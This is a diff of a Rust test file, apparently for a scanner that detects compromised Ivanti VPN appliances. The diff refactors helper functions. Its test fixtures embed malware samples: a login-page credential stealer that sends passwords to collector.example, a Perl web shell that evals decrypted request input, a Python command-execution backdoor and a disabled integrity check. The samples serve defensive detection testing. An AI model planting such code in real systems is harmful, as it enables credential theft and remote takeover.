@@ -41,7 +41,11 @@ fn sha256(data: &[u8]) -> String {
 }
 
 fn manifest_of(files: &[(String, String)]) -> String {
-    files.iter().map(|(p, c)| format!("{p} {}\n", sha256(c.as_bytes()))).collect()
+    let mut s = String::new();
+    for (p, c) in files {
+        s.push_str(&format!("{p} {}\n", sha256(c.as_bytes())));
+    }
+    s
 }
 
 /// The appliance's web log, exported: ordinary sign-ins and API calls in January 2024.
@@ -97,11 +101,11 @@ fn ivanti(t: &Tree) -> Run {
 }
 
 /// The product files with one replaced.
-fn with(path: &str, content: String) -> Vec<(String, String)> {
+fn with(path: &str, content: &str) -> Vec<(String, String)> {
     let mut files = product_files();
     for f in &mut files {
         if f.0 == path {
-            f.1 = content.clone();
+            content.clone_into(&mut f.1);
         }
     }
     files
@@ -127,8 +131,7 @@ fn warpwire_in_lastauthserverused_is_affected() {
     let planted = format!(
         "{genuine}function SetLastRealm2(){{\nvar wdata = document.frmLogin.username.value;\nvar sdata = document.frmLogin.password.value;\nif (wdata && sdata) {{ var xhr = new XMLHttpRequest();\nxhr.open('GET', 'https://collector.example/x?'+btoa(location.host+':'+wdata+'&'+sdata;\n) ; }}\n}}\n"
     );
-    let planted = planted.replace("+wdata+'&'+sdata;\n", "+wdata+'&'+sdata;\n");
-    let files = with(&page, planted);
+    let files = with(&page, &planted);
     let t = appliance(&files, &product_files(), &[]);
     let r = ivanti(&t);
     let hits = r.of("IC001");
@@ -150,7 +153,7 @@ fn lightwire_is_found_by_content_even_with_a_rewritten_manifest() {
     let planted = format!(
         "{genuine}eval{{my $c=Crypt::RC4->new(\"test-key\");my $d=$c->RC4(decode_base64(CGI::param('comp')));;eval $d;}};if($@){{print \"Compatibility check: $@\";}}\n"
     );
-    let files = with(&page, planted);
+    let files = with(&page, &planted);
     // The actor rewrote the manifest: the comparison sees nothing, the content decides.
     let t = appliance(&files, &files, &[]);
     let r = ivanti(&t);
@@ -168,7 +171,7 @@ fn wirefire_in_visits_py_is_affected() {
     let planted = format!(
         "{genuine}\n    def delete(self):\n        \"\"\"Handles DELETE request to delete an existing visits data.\"\"\"\n        if request.data.decode().startswith('GIF'):\n            c = zlib.decompress(aes.decrypt(base64.b64decode(request.data[6:])))\n            t = run(c)\n            return aes.encrypt(t+('\\x00'*(16-len(t)%16)))\n        return Utils.api_log_admin(request.data)\n"
     );
-    let files = with(VISITS, planted);
+    let files = with(VISITS, &planted);
     let t = appliance(&files, &files, &[]);
     let r = ivanti(&t);
     let hits = r.of("IC001");
@@ -216,7 +219,7 @@ fn exploitation_requests_in_the_web_log() {
 #[test]
 fn tampered_integrity_checker_is_reported_under_this_campaign() {
     let patched = CHECKER.replacen("newfilecount=0\n", "exit 0\nnewfilecount=0\n", 1);
-    let files = with("/home/bin/check_integrity.sh", patched);
+    let files = with("/home/bin/check_integrity.sh", &patched);
     let t = appliance(&files, &files, &[]);
     let r = ivanti(&t);
     let hits = r.of("IC006");
